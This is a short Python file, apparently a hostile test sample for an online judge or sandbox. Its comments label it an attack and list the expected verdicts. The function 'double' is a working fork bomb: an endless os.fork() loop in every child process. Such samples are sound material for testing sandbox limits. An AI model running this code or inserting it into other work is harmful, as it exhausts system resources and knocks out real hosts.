# attack: forks without end, in every child too
# verdict: RE | TLE | MLE
# sample: yes
# kata: family
import os


def double(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
